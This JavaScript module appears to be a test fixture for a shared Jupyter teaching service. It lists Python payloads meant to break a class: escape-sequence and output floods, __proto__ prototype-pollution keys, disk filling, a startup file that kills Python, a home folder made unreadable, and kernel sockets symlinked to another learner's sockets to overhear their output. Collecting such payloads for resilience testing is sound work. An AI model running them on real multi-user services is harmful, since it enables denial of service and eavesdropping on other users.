/**
 * What one learner sends in the hope that it ends the class. Each was found by trying, or stands
 * beside one that was. Where Python ends of it, that is the learner's own.
 */

/**
 * @typedef {object} Payload
 * @property {string} name
 * @property {string} source
 * @property {boolean} [restart] Python is started again afterwards: the harm is to the next start
 */

const SHOW = `
from IPython.display import display
def show(data, metadata=None, **more):
    display(data, raw=True, metadata=metadata or {}, **more)
METRICS = "application/vnd.tuningfork.metrics.v1+json"
CHART = "application/vnd.tuningfork.chart.v1+json"
VEGA = "application/vnd.vegalite.v5+json"
import json, os, sys
PROTO = json.loads('{"__proto__": {"a": 1}}')
`;

/** @type {readonly (readonly [name: string, source: string])[]} */
const SAID = [
	['a cursor a thousand million columns to the right', 'print("\\x1b[999999999Cx")'],
	['many of them', 'print("\\x1b[20000Cx\\r" * 50_000)'],
	['a colour with a thousand parts', 'print("\\x1b[" + "38;5;1;" * 100_000 + "mred")'],
	['a link that is never closed', 'print("\\x1b]8;;http://x" + "y" * 1_000_000)\nprint("after")'],
	['one line of 9 MB', 'print("x" * 9_000_000)'],
	['half a letter', 'print("\\ud800x")'],
	['half a letter in an error', 'raise ValueError("bad \\ud83d")'],
	['an error of two million letters', 'raise ValueError("x" * 2_000_000)'],
	['a group of errors', 'raise ExceptionGroup("m", [ValueError("one")] * 1000)']
];

/** @type {readonly (readonly [name: string, source: string])[]} */
const SHOWN = [
	['a chart called __proto__', 'show({METRICS: {"chart": "__proto__", "rows": [{"a": 1}]}})'],
	[
		'charts called like what every object has',
		'for name in ("constructor", "toString", "hasOwnProperty", "then", "toJSON", ""):\n' +
			'    show({METRICS: {"chart": name, "rows": [{"a": 1}]}})\n' +
			'    show({CHART: {"id": name, "panels": []}})'
	],
	['rows with a key __proto__', 'show({METRICS: {"chart": "c", "rows": [PROTO] * 100}})'],
	['an output with a key __proto__', 'show({"application/json": PROTO})'],
	['metadata with it', 'show({"text/plain": "x"}, metadata=PROTO)'],
	['a type of that name', 'show({"__proto__": "x", "text/plain": "y"})'],
	[
		'data of that name in a drawing',
		'show({VEGA: {"datasets": PROTO, "data": {"name": "__proto__"}, "mark": "point"}})'
	],
	[
		'a drawing that wants the whole page',
		'show({VEGA: {"data": {"values": [{"a": 1}]}, "mark": "point", "params": [{"name": "p", "value": "x",' +
			' "bind": {"input": "text", "element": "body"}}]}})'
	],
	[
		'JSON 100,000 deep',
		'text = "[" * 100_000 + "]" * 100_000\n' +
			'from IPython import get_ipython\n' +
			'k = get_ipython().kernel\n' +
			'k.session.pack, old = (lambda o: text.encode() if isinstance(o, dict) and "data" in o else old(o)), k.session.pack\n' +
			'try: show({"application/json": 1})\n' +
			'finally: k.session.pack = old'
	],
	[
		'100,000 points in one message',
		'show({METRICS: {"chart": "c", "rows": [{"a": 1}] * 100_000}})'
	],
	[
		'3,000 updates of one display',
		'h = display("0", display_id=True)\nfor i in range(3000): h.update({"text/plain": "x" * 1000}, raw=True)'
	],
	['2,500 outputs', 'for i in range(2500): display(i)']
];

/** @type {readonly (readonly [name: string, source: string])[]} */
const WRITTEN = [
	[
		'the sockets’ folder written full',
		'import glob\n' +
			'folder = [l.split()[4] for l in open("/proc/self/mountinfo") if l.split()[4].endswith("/s")]\n' +
			'for path in folder:\n' +
			'    try:\n' +
			'        with open(path + "/big", "wb") as file:\n' +
			'            for _ in range(300): file.write(bytes(2**20))\n' +
			'    except OSError as error: print(error)\n' +
			'    try: os.unlink(path + "/big")\n' +
			'    except OSError as error: print(error)'
	],
	[
		'a tree 3,000 deep',
		'os.chdir(os.path.expanduser("~"))\n' +
			'for _ in range(3000):\n    os.mkdir("d" * 20); os.chdir("d" * 20)\n' +
			'os.chdir(os.path.expanduser("~"))'
	],
	[
		'odd names',
		'for n in (b"a\\nb", b"\\xff\\xfe", b"x" * 255): open(os.fsencode(os.path.expanduser("~")) + b"/" + n, "w").close()'
	],
	['a child that leaves', 'if os.fork() == 0: sys.exit(0)\nos.wait()']
];

/** @type {readonly (readonly [name: string, source: string])[]} */
const STARTED = [
	[
		'a start-up file that ends Python',
		'p = os.path.expanduser("~/.ipython/profile_default/startup")\n' +
			'os.makedirs(p, exist_ok=True)\n' +
			'open(p + "/01.py", "w").write("import os; os._exit(3)")'
	],
	['a folder that nobody may read', 'os.chmod(os.path.expanduser("~"), 0)']
];

/**
 * A link in place of a socket, to one of somebody else: what they print would be heard here.
 * @param {string} foreign kernel id
 */
function links(foreign) {
	return `
mine = [l.split()[4] for l in open("/proc/self/mountinfo") if l.split()[4].endswith("/s")]
for path in mine:
    other = os.path.join(os.path.dirname(os.path.dirname(path)), ${JSON.stringify(foreign)}, "s")
    for name in os.listdir(path):
        if not name.startswith("k-"): continue
        try:
            os.unlink(f"{path}/{name}"); os.symlink(f"{other}/{name}", f"{path}/{name}")
        except OSError as error: print(error)
import socket
for number in os.listdir("/proc/self/fd"):
    try: socket.socket(fileno=os.dup(int(number))).shutdown(socket.SHUT_RDWR)
    except OSError: pass
`;
}

/** @param {string} foreign id of the kernel of another learner @returns {readonly Payload[]} */
export function payloads(foreign) {
	const plain = [...SAID, ...SHOWN, ...WRITTEN].map(([name, source]) => ({ name, source }));
	return [
		...plain,
		{ name: 'links in place of sockets', source: links(foreign), restart: true },
		...STARTED.map(([name, source]) => ({ name, source, restart: true }))
	].map((payload) => ({ ...payload, source: SHOW + payload.source }));
}
